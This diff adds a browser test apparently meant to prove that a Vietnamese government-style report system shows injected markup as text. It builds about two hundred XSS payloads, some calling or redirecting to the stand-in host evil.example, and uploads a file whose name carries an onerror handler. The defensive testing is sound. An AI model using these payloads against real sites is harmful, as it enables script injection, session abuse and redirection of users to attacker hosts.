@@ -1,0 +1,100 @@
+import type { Browser, Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { type Application, startApplication } from "../support/application.ts";
+import { hasBrowser, openBrowser, signIn } from "../support/browser.ts";
+
+describe.skipIf(!hasBrowser)("words that would be programs", () => {
+  let application: Application;
+  let browser: Browser;
+  const report = "/dot/an-son-2022-h1/bc/d1.xa-phu-loc";
+
+  beforeAll(async () => {
+    [application, browser] = await Promise.all([startApplication(), openBrowser()]);
+  }, 120_000);
+  afterAll(async () => {
+    await browser?.close();
+    await application?.stop();
+  });
+
+  test("T36: two hundred of them in a report, its files and its reasons are shown as words, and none runs", async () => {
+    const unit = await watched(await signIn(browser, application.links.unit));
+    await unit.page.goto(`${application.url}${report}/muc/i-4`);
+    await unit.page.getByLabel("Ưu điểm").fill(payloads.join("\n").slice(0, 5900));
+    await unit.page.getByLabel("Tồn tại, hạn chế").fill(payloads.join("\n").slice(5900, 11_800));
+    await unit.page.getByLabel("Dòng 1, Nhiệm vụ, giải pháp").fill(payloads.slice(0, 3).join(" "));
+    await unit.page.getByRole("button", { name: "Lưu và thoát" }).click();
+    await unit.page.goto(`${application.url}${report}/tep`);
+    const file = { name: `"><img src=x onerror=alert(1)>.png`, mimeType: "image/png", buffer: png };
+    await unit.page.getByLabel("Chọn tệp").setInputFiles(file);
+    await unit.page.getByRole("button", { name: "Tải tệp lên" }).click();
+    expect(await unit.page.textContent(".files")).toContain("onerror=alert(1)");
+    await unit.page.goto(`${application.url}${report}/in`);
+    await unit.page.goto(`${application.url}${report}/kiem-tra`);
+    expect(await unit.page.textContent("main")).toContain(payloads[0]);
+    await unit.page.getByRole("button", { name: /^Gửi báo cáo/ }).click();
+    await unit.page.waitForURL(/bien-nhan$/);
+
+    const officer = await watched(await signIn(browser, application.links.officer));
+    await officer.page.goto(`${application.url}${report}/xet`);
+    expect(await officer.page.textContent("main")).toContain(payloads[0]);
+    await officer.page.getByText("Trả lại để bổ sung").click();
+    await officer.page.getByLabel("Toàn báo cáo").fill(payloads.slice(0, 20).join("\n"));
+    await officer.page.getByRole("button", { name: "Trả lại báo cáo cho đơn vị" }).click();
+    await officer.page.goto(`${application.url}/dot/an-son-2022-h1/thu`);
+    await unit.page.goto(application.url + report);
+    expect(await unit.page.textContent("main")).toContain(payloads[0]);
+    expect([...unit.ran, ...officer.ran]).toEqual([]);
+  }, 60_000);
+});
+
+/** Anything that ran, or that the browser had to be told not to run. */
+async function watched(page: Page): Promise<{ page: Page; ran: string[] }> {
+  const ran: string[] = [];
+  page.on("dialog", async (dialog) => {
+    ran.push(`dialog ${dialog.message()}`);
+    await dialog.dismiss();
+  });
+  page.on("console", (line) => {
+    if (/Content Security Policy|Content-Security-Policy/.test(line.text())) ran.push(line.text());
+  });
+  page.on("request", (request) => {
+    if (!request.url().startsWith(new URL(page.url()).origin)) ran.push(`request ${request.url()}`);
+  });
+  return { page, ran };
+}
+
+const acts = ["alert(1)", "fetch('//evil.example')", "document.title='x'", "location='//evil.example'"];
+const shapes: readonly ((act: string) => string)[] = [
+  (act) => `<script>${act}</script>`,
+  (act) => `<img src=x onerror=${act}>`,
+  (act) => `<svg onload=${act}>`,
+  (act) => `"><script>${act}</script>`,
+  (act) => `' onfocus=${act} autofocus='`,
+  (act) => `" onmouseover="${act}`,
+  (act) => `</textarea><script>${act}</script>`,
+  (act) => `</title><script>${act}</script>`,
+  (act) => `<a href="javascript:${act}">x</a>`,
+  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
+  (act) => `<body onload=${act}>`,
+  (act) => `<details open ontoggle=${act}>`,
+  (act) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
+  (act) => `<!--><img src=x onerror=${act}>-->`,
+  (act) => `\${${act}}`,
+  (act) => `{{constructor.constructor('${act}')()}}`,
+  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
+  (act) => `<input autofocus onfocus=${act}>`,
+  (act) => `<style>@import '//evil.example/${act}'</style>`,
+  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
+  (act) => `<object data="data:text/html,<script>${act}</script>">`,
+  (act) => `<base href="//evil.example/${act}">`,
+  (act) => `%3Cscript%3E${act}%3C/script%3E`,
+  (act) => `<scr<script>ipt>${act}</script>`,
+  (act) => `<x contenteditable onblur=${act}>`,
+];
+const payloads = shapes.flatMap((shape) => [...acts, ...acts.map((act) => act.toUpperCase())].map(shape));
+
+/** The smallest picture there is. */
+const png = Buffer.from(
+  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+  "base64",
+);
